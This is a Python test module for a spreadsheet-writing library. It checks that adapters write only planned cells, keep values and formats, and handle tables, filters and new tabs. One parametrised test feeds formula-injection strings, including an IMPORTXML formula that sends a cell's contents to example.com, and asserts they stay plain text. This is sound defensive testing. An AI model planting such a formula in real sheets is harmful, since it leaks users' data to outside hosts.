"""What every kind of spreadsheet makes of a write plan: the planned cells as planned, and nothing else."""

from __future__ import annotations

from collections.abc import Mapping

import pytest

from okrsheets.edits import CellEdit, EditKind, ManagedColumn, ManagedRole, TableGrowth, WritePlan
from okrsheets.grid import Cell, CellRange, CellRef, Look, Sheet, SheetTable, Value
from tests.adapters.suite.kinds import Entered, Kind, any_kind, any_wary_kind
from tests.adapters.suite.plans import ROLES, edits, new_tab, outcome_of, tab_edits
from tests.grids import sheet

PLAN = """
    | Objective | Key result   | Target | Current |
    | Grow      | 40 customers | 40     | 19      |
    | Grow      | 3 cities     | 3      | 1       |
    | Retain    | NPS of 40    | 40     | 35      |
"""
LAID = sheet("Plan", PLAN)
VALUES: Mapping[str, Value] = {"E2": 0.475, "F2": "on track", "E3": 0.3333, "F3": "behind", "F4": "unknown"}
HEADINGS = tuple(role.value for role in ROLES)

TEXTS = {
    "a formula": "=1+1",
    "a call to the world": '=IMPORTXML("http://example.com?"&A1,"//a")',
    "plus one": "+1",
    "minus": "-2+3",
    "at": "@SUM(A1)",
    "an apostrophe": "'x",
    "a number": "42",
    "a share": "40 %",
    "a day": "2026-10-01",
    "yes": "TRUE",
    "an error": "#REF!",
    "lines": "two\nlines",
    "blanks": "  around  ",
    "signs": "<b>&\"'",
    "escapes": "_x0041_",
    "letters": "日本 😀 é",
}


def _read(kind: Kind, source: str, tab: str = "Plan") -> Sheet:
    """The tab as it is read now, with nothing that only some kinds have."""
    found = kind.adapter.read(source).sheet(tab)
    assert found is not None
    return found._replace(cells=dict(found.cells), gid=None)


def _values(found: Sheet, *places: str) -> list[Value]:
    cells = {f"{CellRef('', '', row, column).a1}": cell.value for (row, column), cell in found.cells.items()}
    return [cells.get(place) for place in places]


@any_kind
def test_an_empty_plan_changes_nothing(kind: Kind) -> None:
    source = kind.lay(LAID)
    before, revision = kind.all_of(source), kind.adapter.read(source).revision
    outcome = kind.adapter.apply(WritePlan(source, revision))
    assert (outcome.written, outcome.refused, outcome.revision) == ((), (), revision)
    assert kind.all_of(source) == before


@any_wary_kind
def test_planned_cells_are_written_and_all_others_stay_as_they_were(kind: Kind) -> None:
    laid = LAID._replace(
        merges=(CellRange(6, 1, 7, 2),),
        hidden_rows=frozenset({3}),
        hidden_columns=frozenset({8}),
        cells={
            **LAID.cells,
            (9, 1): Cell(12, formula="C3*4"),
            (9, 2): Cell("see", link="https://example.com"),
            (9, 3): Cell(0.5, number_format="0.0%", look=Look(fill="FFF200")),
        },
    )
    other = sheet("Other", PLAN)
    source = kind.lay(laid, other)
    outcome = outcome_of(kind, source, {"E2": "on track", "F3": 7})
    assert [edit.ref.a1 for edit in outcome.written] == ["E2", "F3"]
    new = {(2, 5): Cell("on track"), (3, 6): Cell(7)}
    assert _read(kind, source) == laid._replace(cells={**laid.cells, **new})
    assert _read(kind, source, "Other") == other


@any_kind
@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_a_text_stays_that_very_text_and_never_becomes_a_formula(kind: Kind, text: str) -> None:
    source = kind.lay(LAID)
    outcome_of(kind, source, {"E2": text})
    cell = _read(kind, source).cell(2, 5)
    assert (cell.value, cell.formula) == (text, None)
    assert kind.entered(source, "E2")[:1] == ("text",)


@any_kind
@pytest.mark.parametrize("number", [0, 1, -3, 1_000_000, 0.5, 0.3333, -0.25, 1e-9, 123456.789])
def test_a_number_is_written_as_a_number(kind: Kind, number: float) -> None:
    source = kind.lay(LAID)
    book = kind.adapter.read(source)
    ref = CellRef(source, "Plan", 2, 5)
    edit = CellEdit(ref, ManagedRole.KEY_RESULTS, "key", None, number, EditKind.NUMBER)
    kind.adapter.apply(WritePlan(source, book.revision, (edit,)))
    assert kind.entered(source, "E2") == Entered("number", number, "General")
    assert _read(kind, source).value(2, 5) == number


@any_wary_kind
def test_a_share_is_a_number_that_is_shown_as_a_percentage(kind: Kind) -> None:
    source = kind.lay(LAID)
    outcome_of(kind, source, {"E2": 0.475})
    assert kind.entered(source, "E2") == Entered("number", 0.475, "0%")


@any_wary_kind
def test_a_number_format_that_people_gave_a_cell_of_ours_stays(kind: Kind) -> None:
    ours = {(2, 5): Cell(0.1, number_format="0.00%"), (3, 5): Cell("unknown", look=Look(bold=True))}
    source = kind.lay(LAID._replace(cells={**LAID.cells, **ours}))
    outcome_of(kind, source, {"E2": 0.475, "E3": "on track"})
    read = _read(kind, source)
    assert read.cell(2, 5) == Cell(0.475, number_format="0.00%")
    assert read.cell(3, 5) == Cell("on track", look=Look(bold=True))


@any_wary_kind
def test_blank_empties_a_cell(kind: Kind) -> None:
    ours = {(2, 5): Cell("on track"), (3, 5): Cell(0.5)}
    source = kind.lay(LAID._replace(cells={**LAID.cells, **ours}))
    outcome = outcome_of(kind, source, {"E2": None, "E3": None})
    assert len(outcome.written) == 2
    assert _read(kind, source).cells == LAID.cells
    assert kind.entered(source, "E2").kind == "nothing"


@any_wary_kind
def test_one_kind_of_value_takes_the_place_of_another(kind: Kind) -> None:
    ours = {(2, 5): Cell("unknown"), (3, 5): Cell(3), (4, 5): Cell(value=True)}
    source = kind.lay(LAID._replace(cells={**LAID.cells, **ours}))
    outcome_of(kind, source, {"E2": 3, "E3": "3", "E4": 1})
    assert [kind.entered(source, at)[:2] for at in ("E2", "E3", "E4")] == [
        ("number", 3),
        ("text", "3"),
        ("number", 1),
    ]


@any_kind
def test_new_columns_get_their_headings_and_their_cells(kind: Kind) -> None:
    source = kind.lay(LAID)
    outcome = outcome_of(kind, source, VALUES, left=5)
    assert outcome.refused == ()
    assert [edit.ref.a1 for edit in outcome.written] == list(VALUES)
    read = _read(kind, source)
    assert _values(read, "E1", "F1") == list(HEADINGS)
    assert _values(read, *VALUES) == list(VALUES.values())
    assert {place: read.cells[place] for place in LAID.cells} == LAID.cells
    assert len(read.cells) == len(LAID.cells) + len(HEADINGS) + len(VALUES)


def test_new_columns_look_like_their_neighbour_but_not_as_to_numbers(kind: Kind) -> None:
    money = {
        (1, 4): Cell("Current", look=Look(bold=True, fill="DDEEFF")),
        (2, 4): Cell(19, number_format="#,##0.00", look=Look(fill="FFF200")),
    }
    source = kind.lay(LAID._replace(cells={**LAID.cells, **money}))
    outcome_of(kind, source, VALUES, left=5)
    read = _read(kind, source)
    assert [read.cell(1, c).look for c in (5, 6)] == [Look(bold=True, fill="DDEEFF")] * 2
    assert [read.cell(2, c).look for c in (5, 6)] == [Look(fill="FFF200")] * 2
    assert [read.cell(2, c).number_format for c in (5, 6)] == ["0%", "General"]


@any_wary_kind
def test_a_row_of_ours_below_a_form_gets_its_label_and_its_cells(kind: Kind) -> None:
    form = sheet("Plan", "| Objective | Grow | Delight |\n| Progress | 40 % | 60 % |")
    source = kind.lay(form)
    book = kind.adapter.read(source)
    at = CellRef(source, "Plan", 3, 1)
    role = ManagedRole.OBJECTIVE_PROGRESS
    ours = ManagedColumn(at, 3, role.value, role, EditKind.PERCENT, 0, new=True, lying=True)
    plan = WritePlan(source, book.revision, edits(book, {"B3": 0.4, "C3": 0.6}), (ours,))
    assert kind.adapter.apply(plan).refused == ()
    assert _values(_read(kind, source), "A3", "B3", "C3") == [role.value, 0.4, 0.6]
    assert kind.entered(source, "C3").number_format == "0%"


def test_notes_of_people_stay_and_a_new_heading_says_whose_it_is_where_that_is_done(kind: Kind) -> None:
    source = kind.lay(LAID, notes={"A1": "ours, all of it", "D2": "as of May"})
    outcome_of(kind, source, VALUES, left=5)
    assert [kind.note(source, at) for at in ("A1", "D2")] == ["ours, all of it", "as of May"]
    assert [kind.note(source, at) for at in ("E1", "E2")] == [kind.traits.heading_note, None]


@any_wary_kind
def test_a_row_that_is_hidden_is_written_like_any_other(kind: Kind) -> None:
    source = kind.lay(LAID._replace(hidden_rows=frozenset({3})))
    outcome_of(kind, source, VALUES, left=5)
    read = _read(kind, source)
    assert (read.value(3, 5), read.hidden_rows) == (0.3333, frozenset({3}))


@any_kind
def test_the_same_again_writes_nothing(kind: Kind) -> None:
    source = kind.lay(LAID)
    outcome_of(kind, source, VALUES, left=5)
    before, revision = kind.all_of(source), kind.adapter.read(source).revision
    again = outcome_of(kind, source, VALUES, left=5)
    assert (again.revision, again.refused) == (revision, ())
    assert kind.all_of(source) == before


@any_kind
def test_a_write_gives_the_sheet_another_revision(kind: Kind) -> None:
    source = kind.lay(LAID)
    before = kind.adapter.read(source).revision
    outcome = outcome_of(kind, source, VALUES)
    after = kind.adapter.read(source).revision
    assert before not in (outcome.revision, after)
    assert (outcome.revision == after) == kind.traits.foretells


@any_kind
def test_cells_far_from_all_others_are_written(kind: Kind) -> None:
    source = kind.lay(LAID)
    outcome = outcome_of(kind, source, {"AD2": "far right", "B900": "far below"})
    assert outcome.refused == ()
    assert _values(_read(kind, source), "AD2", "B900") == ["far right", "far below"]


GOALS = LAID._replace(tables=(SheetTable("Goals", CellRange(1, 1, 4, 4)),))
FILTERED = LAID._replace(filter_range=CellRange(1, 1, 4, 4))


def test_a_table_grows_by_our_columns_and_shrinks_when_they_are_taken_back(kind: Kind) -> None:
    source = kind.lay(GOALS)
    growth = TableGrowth("Plan", "Goals", HEADINGS)
    outcome = outcome_of(kind, source, VALUES, left=5, growths=[growth])
    assert outcome.refused == ()
    grown = _read(kind, source)
    assert grown.tables == (SheetTable("Goals", CellRange(1, 1, 4, 6)),)
    assert _values(grown, "E1", "F1", "E2") == [*HEADINGS, 0.475]
    book = kind.adapter.read(source)
    emptied = edits(book, dict.fromkeys(VALUES))
    headings = [edit._replace(key="") for edit in edits(book, {"E1": None, "F1": None})]
    plan = WritePlan(source, book.revision, (*emptied, *headings), shrinks=(growth,))
    assert kind.adapter.apply(plan).refused == ()
    assert _read(kind, source) == GOALS


def test_a_filter_grows_by_our_columns(kind: Kind) -> None:
    source = kind.lay(FILTERED)
    outcome_of(kind, source, VALUES, left=5, growths=[TableGrowth("Plan", None, HEADINGS)])
    assert _read(kind, source).filter_range == CellRange(1, 1, 4, 6)


def test_a_new_tab_stands_behind_all_others_with_its_cells(kind: Kind) -> None:
    source = kind.lay(LAID, sheet("Notes", "| x |"))
    book = kind.adapter.read(source)
    said: Mapping[str, Value] = {"A1": "OKR summary", "A2": "=Sales", "B2": 0.4375, "C2": 3}
    tab = new_tab(book, "OKR summary", said, bold=[1])
    outcome = kind.adapter.apply(WritePlan(source, book.revision, tabs=(tab,)))
    assert (outcome.tabs, outcome.tab_cells, outcome.refused) == (("OKR summary",), 0, ())
    assert [one.name for one in kind.adapter.read(source).sheets] == ["Plan", "Notes", "OKR summary"]
    assert _read(kind, source, "OKR summary").cells == {
        (1, 1): Cell("OKR summary", look=Look(bold=True)),
        (2, 1): Cell("=Sales"),
        (2, 2): Cell(0.4375, number_format="0%"),
        (2, 3): Cell(3),
    }
    assert _read(kind, source) == LAID


@any_wary_kind
def test_cells_of_a_tab_of_ours_are_kept_up(kind: Kind) -> None:
    ours = sheet("OKR summary", "| Team | Progress |\n| Sales | 40 % |\n| Ops | 10 % |")
    source = kind.lay(LAID, ours)
    book = kind.adapter.read(source)
    changes = tab_edits(book, {"B2": 0.5, "A3": None, "B3": None}, tab="OKR summary")
    outcome = kind.adapter.apply(WritePlan(source, book.revision, tab_edits=changes))
    assert (outcome.tabs, outcome.tab_cells, outcome.written) == (("OKR summary",), 3, ())
    assert _values(_read(kind, source, "OKR summary"), "A2", "B2", "A3", "B3") == ["Sales", 0.5, None, None]


@any_wary_kind
def test_two_tabs_are_written_at_once(kind: Kind) -> None:
    odd = sheet('It\'s "odd"!', PLAN)
    source = kind.lay(LAID, odd)
    book = kind.adapter.read(source)
    both = (*edits(book, {"E2": "one"}), *edits(book, {"E2": "two"}, tab=odd.name))
    assert len(kind.adapter.apply(WritePlan(source, book.revision, both)).written) == 2
    assert [_read(kind, source, name).value(2, 5) for name in ("Plan", odd.name)] == ["one", "two"]
